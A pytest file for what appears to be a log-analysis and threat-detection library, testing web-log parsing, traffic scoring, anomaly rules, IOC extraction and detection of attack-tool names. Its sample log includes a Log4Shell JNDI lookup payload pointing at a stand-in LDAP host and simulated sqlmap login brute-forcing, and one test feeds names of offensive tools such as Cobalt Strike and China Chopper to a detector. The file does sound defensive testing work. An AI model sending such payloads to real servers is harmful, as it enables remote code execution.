import datetime as dt
import re

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from tracelake.functions.time import parse_timestamp
from tracelake.operators import detect, iocs, parse, threats, timeline, traffic
from tracelake.operators.timeline import numbered

LOG = [
    '203.0.113.45 - - [12/Jun/2026:10:00:00 +0900] "GET / HTTP/1.1" 200 500 "-" "Mozilla/5.0"',
    '203.0.113.45 - kim [12/Jun/2026:10:00:01 +0900] "GET /x y HTTP/1.1" 404 - "-" "Mozilla/5.0"',
    *[f'45.155.205.99 - - [12/Jun/2026:10:01:0{k} +0900] "POST /login HTTP/1.1" 401 220 "-" "sqlmap/1.7"' for k in range(6)],
    '185.220.101.4 - - [12/Jun/2026:10:02:00 +0900] "GET /a?x=${jndi:ldap://e.example.com/a} HTTP/1.1" 200 10 "-" "curl/8"',
    "10.0.0.12 something else 403",
    "",
]


@pytest.fixture(scope="module")
def entries(spark):
    lines = spark.createDataFrame([(k + 1, x) for k, x in enumerate(LOG)], "line_number long, line string")
    return parse.weblog(lines).cache()


def test_weblog_fields(entries):
    rows = {r["line_number"]: r for r in entries.collect()}
    assert len(rows) == 10
    assert (rows[2]["user"], rows[2]["url"], rows[2]["bytes"], rows[2]["status_code"]) == ("kim", "/x y", 0, 404)
    assert rows[1]["user"] is None and rows[1]["ts"] == dt.datetime(2026, 6, 12, 1, 0, 0)
    assert rows[10]["source_ip"] == "10.0.0.12" and rows[10]["status_code"] is None and rows[10]["format"] == "weblog"


def test_traffic(entries):
    rows = {r["source_ip"]: r for r in traffic.traffic_score(entries).collect()}
    bad = rows["45.155.205.99"]
    # 6 requests against a mean of 2.5; all denied; a tool's agent; external
    assert bad["score"] == pytest.approx(0.12 + 0.3 + 0.22 + 0.2 + 0.05) and bad["class"] == "abnormal"
    assert bad["reasons"] == "volume-raised,errors-high,denied,robot-agent"
    assert rows["10.0.0.12"]["score"] == 0 and rows["10.0.0.12"]["reasons"] == "nothing-unusual"


def test_anomalies_and_timeline(entries):
    found = detect.anomalies(entries)
    per = {r["category"]: r["n"] for r in found.groupBy("category").agg(F.count("*").alias("n")).collect()}
    assert per["behavior-auth"] == 1 and per["log4shell"] == 1 and "brute-force" not in per and per["recon-scanner"] == 6
    auth = found.where("category = 'behavior-auth'").first()
    assert (auth["line_number"], auth["severity"], auth["evidence"]) == (3, "medium", "45.155.205.99: 6× (401/403)")
    places = [r["place"] for r in timeline.timeline(found).orderBy("place").collect()]
    assert places == list(range(1, found.count() + 1))


def test_order_of_rows_does_not_matter(spark, entries):
    mixed = entries.orderBy(F.desc("line_number")).repartition(7)
    a = sorted(map(tuple, threats.techniques(detect.rule_hits(entries)).collect()))
    b = sorted(map(tuple, threats.techniques(detect.rule_hits(mixed)).collect()))
    assert a == b


def test_benign_lines_remove_no_finding(spark, entries):
    more = entries.unionByName(entries.limit(1).withColumn("line_number", F.lit(99).cast("long")))
    old = {tuple(r) for r in detect.rule_hits(entries).select("line_number", "code").collect()}
    assert old <= {tuple(r) for r in detect.rule_hits(more).select("line_number", "code").collect()}


@pytest.mark.parametrize(
    ("text", "want"),
    [
        ("[10/Oct/2000:13:55:36 -0700] x", dt.datetime(2000, 10, 10, 20, 55, 36)),
        ("[10/Oct/2000:13:55:36]", dt.datetime(2000, 10, 10, 13, 55, 36)),
        ("[10/Foo/2000:13:55:36] 2020-01-02 03:04:05", dt.datetime(2020, 1, 2, 3, 4, 5)),
        ("at 2026-06-12T13:55:36.123Z", dt.datetime(2026, 6, 12, 13, 55, 36)),
        ("Jun  2 01:02:03 host", dt.datetime(2026, 6, 2, 1, 2, 3)),
        ("t=1700000000 x", dt.datetime(2023, 11, 14, 22, 13, 20)),
        ("t=1700000000123", dt.datetime(2023, 11, 14, 22, 13, 20, 123000)),
        ("2026-02-31 00:00:00", None),
        ("nothing", None),
        (None, None),
    ],
)
def test_timestamps(spark, text, want):
    assert spark.createDataFrame([(text,)], "t string").select(parse_timestamp(F.col("t")).alias("x")).first()["x"] == want


def split_by_hand(line, delimiter=","):
    out, cur, inside, k = [], "", False, 0
    while k < len(line):
        c = line[k]
        if c == '"':
            if inside and line[k + 1 : k + 2] == '"':
                cur += '"'
                k += 1
            else:
                inside = not inside
        elif c == delimiter and not inside:
            out.append(cur)
            cur = ""
        else:
            cur += c
        k += 1
    return [x.strip(" ") for x in [*out, cur]]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text('ab", ', max_size=14), min_size=1, max_size=20))
def test_csv_cells(spark, lines):
    lines = [x for x in lines if x.count('"') % 2 == 0]
    got = spark.createDataFrame([(x,) for x in lines], "t string").select(parse.split_csv(F.col("t")).alias("c")).collect()
    assert [r["c"] for r in got] == [split_by_hand(x) for x in lines]


def test_csv_columns_go_by_substrings():
    assert parse.csv_columns(["When_Date", "description", "client_ip", "Result"]) == {"time": 0, "ip": 1, "message": 1, "user": None, "status": 3}


def test_csv_rows_of_uneven_length(spark):
    lines = spark.createDataFrame([(2, "2026-01-01 00:00:00,1.2.3.4"), (3, "x,y,z,404,more")], "line_number long, line string")
    rows = parse.csv_entries(lines, ["time", "src", "user", "status"]).orderBy("line_number").collect()
    assert rows[0]["user"] is None and rows[1]["status_code"] == 404 and rows[0]["source_ip"] == "1.2.3.4"


def test_iocs(spark):
    text = "see http://EXAMPLE.com/a?b and http://example.com/x.png, mail a.b@example.org, 10.1.2.3 300.1.1.1 " + "a" * 64 + " CVE-2021-44228 C:\\dir\\run.exe"
    hits = iocs.ioc_hits(spark.createDataFrame([(1, text), (2, None)], "line_number long, t string"), F.col("t"), ts=None)
    found = {(r["type"], r["value"]): r["severity"] for r in iocs.iocs(hits).collect()}
    assert found[("url", "http://EXAMPLE.com/a?b")] == "low" and ("url", "http://example.com/x.png,") in found
    assert found[("ip", "10.1.2.3")] == "info" and found[("cve", "CVE-2021-44228")] == "high"
    assert found[("hash-sha256", "a" * 64)] == "medium" and ("hash-sha1", "a" * 40) not in found
    assert ("filepath", "C:\\dir\\run.exe") in found and ("email", "a.b@example.org") in found


def test_reference_urls_are_encoded_as_in_a_browser(spark):
    row = spark.createDataFrame([("a b*~!'()/é",)], "t string").select(iocs.encoded(F.col("t")).alias("x")).first()
    assert row["x"] == "a%20b*~!'()%2F%C3%A9"


def test_numbered_matches_a_sort(spark):
    rows = spark.range(500).select((F.col("id") % 7).alias("a"), F.col("id").alias("b")).withColumn("a", F.when(F.col("a") != 3, F.col("a")))
    got = numbered(rows, ["a", "b"], "n", ("a",)).orderBy("n").collect()
    want = sorted(((r["a"], r["b"]) for r in rows.collect()), key=lambda x: (x[0] is None, x[0] or 0, x[1]))
    assert [(r["a"], r["b"]) for r in got] == want and [r["n"] for r in got] == list(range(1, 501))


def test_empty_input(spark):
    none = parse.weblog(spark.createDataFrame([], "line_number long, line string"))
    for df in (detect.anomalies(none), traffic.traffic_score(none), timeline.timeline(detect.anomalies(none)), threats.techniques(detect.rule_hits(none))):
        assert df.count() == 0


def test_no_pattern_names_are_lost():
    assert re.fullmatch(iocs.PATTERNS[0][1].text, "1.2.3.4")


def test_tools_named_over_line_ends(spark):
    """As in one text of all rows, joined by line feeds; what a row names alone counts there once."""
    from tracelake.operators import threats

    said = ["ran Cobalt", "strike here", "brute", "force", "a fast", "REVERSE", "proxy x", "china chopper", "chopper", "fast reverse", "proxy", "x frp fast", "reverse proxy", "china", None, "chopper", "brute" + "z", "ratel", "x" * 90 + " brute", "ratel" + "y" * 90]
    df = spark.createDataFrame(list(enumerate(said)), "n int, t string").repartition(5)
    got = {r["tool"]: r["rows"] for r in threats.tools_named(df, "t", ["n"]).collect()}
    assert got == {"cobaltstrike": 1, "frp": 3, "chinachopper": 1, "bruteratel": 1}
    assert {r["tool"] for r in threats.tools_named(df, "t").collect()} == {"frp", "chinachopper"}
    db = duckdb.connect()
    db.execute("CREATE TABLE rows (n INT, t VARCHAR)")
    db.executemany("INSERT INTO rows VALUES (?, ?)", list(enumerate(said)))
    assert dict(db.execute(threats.tools_sql("SELECT * FROM rows", "t", "n")).fetchall()) == got
